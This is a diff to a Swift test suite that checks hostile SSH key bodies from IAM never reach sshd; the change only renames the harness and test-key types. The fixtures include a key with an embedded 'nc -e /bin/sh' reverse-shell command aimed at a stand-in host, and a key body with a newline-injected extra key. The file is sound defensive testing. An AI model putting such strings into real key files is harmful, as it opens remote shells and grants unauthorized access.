@@ -6,12 +6,12 @@ import Testing
 /// Key bodies from IAM that would inject options or extra lines never reach sshd.
 @Suite struct KeyCommandHostileBodyTests {
     @Test func hostileBodyNeverReachesStandardOutput() {
-        let harness = KeyHarness()
+        let harness = KeyCommandHarness()
         harness.iam.setKeys(
             "alice",
             [
-                .init(id: "BAD", body: "command=\"nc -e /bin/sh evil 1\" " + KeyTestKeys.ed25519),
-                .init(id: "NL", body: KeyTestKeys.ecdsa + "\nssh-ed25519 AAAAinjected"),
+                .init(id: "BAD", body: "command=\"nc -e /bin/sh evil 1\" " + TestKeys.ed25519),
+                .init(id: "NL", body: TestKeys.ecdsa + "\nssh-ed25519 AAAAinjected"),
             ])
         let outcome = harness.run()
         #expect(outcome.output.isEmpty)
